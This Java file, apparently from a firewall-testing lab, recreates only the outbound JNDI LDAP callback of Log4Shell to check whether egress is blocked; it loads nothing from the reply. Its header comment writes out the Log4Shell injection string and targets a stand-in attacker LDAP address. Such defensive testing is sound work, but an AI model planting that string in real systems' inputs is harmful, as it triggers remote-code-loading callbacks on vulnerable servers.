// outguard lab: the second stage of Log4Shell (CVE-2021-44228), without the first.
//
// A vulnerable Log4j expands ${jndi:ldap://host:1389/a} into exactly this call:
// new InitialContext().lookup("ldap://host:1389/a"). The lab runs it as a real `java` process
// inside og-lab-server so the firewall (and later the monitor) sees a genuine JNDI LDAP
// connect from a JVM. Nothing is ever loaded from the answer.
//
// Usage: java -cp DIR JndiLookup ldap://198.51.100.66:1389/x [connect-timeout-ms]
// Prints one line and exits with:
//   0  REACHED  the LDAP server answered (a NameNotFoundException from it counts)
//   3  BLOCKED  the TCP connect failed or timed out
//   4  ERROR    anything else
import java.net.ConnectException;
import java.net.NoRouteToHostException;
import java.net.SocketTimeoutException;
import java.util.Hashtable;
import javax.naming.CommunicationException;
import javax.naming.Context;
import javax.naming.InitialContext;
import javax.naming.NamingException;

public class JndiLookup {
    public static void main(String[] args) {
        if (args.length < 1) {
            System.out.println("ERROR usage: JndiLookup URL [connect-timeout-ms]");
            System.exit(4);
        }
        String url = args[0];
        String timeout = args.length > 1 ? args[1] : "2000";
        Hashtable<String, Object> env = new Hashtable<>();
        env.put("com.sun.jndi.ldap.connect.timeout", timeout);
        env.put("com.sun.jndi.ldap.read.timeout", timeout);
        long start = System.nanoTime();
        try {
            Object found = new InitialContext(env).lookup(url);
            report(0, "REACHED", "lookup returned " + found, start);
        } catch (CommunicationException e) {
            if (isConnectFailure(e)) {
                report(3, "BLOCKED", describe(e), start);
            }
            report(4, "ERROR", describe(e), start);
        } catch (NamingException e) {
            // The server answered (e.g. LDAP error 32, no such object): the callback got out.
            report(0, "REACHED", describe(e), start);
        } catch (RuntimeException e) {
            report(4, "ERROR", e.toString(), start);
        }
    }

    static boolean isConnectFailure(Throwable e) {
        for (Throwable c = e; c != null; c = c.getCause()) {
            if (c instanceof ConnectException || c instanceof NoRouteToHostException) {
                return true;
            }
            if (c instanceof SocketTimeoutException
                    && String.valueOf(c.getMessage()).toLowerCase().contains("connect")) {
                return true;
            }
        }
        return false;
    }

    static String describe(NamingException e) {
        Throwable root = e.getRootCause();
        return e.getClass().getName() + ": " + e.getExplanation()
                + (root != null ? " [" + root + "]" : "");
    }

    static void report(int code, String verdict, String detail, long start) {
        long ms = (System.nanoTime() - start) / 1_000_000;
        System.out.println(verdict + " after " + ms + " ms: " + detail);
        System.exit(code);
    }
}
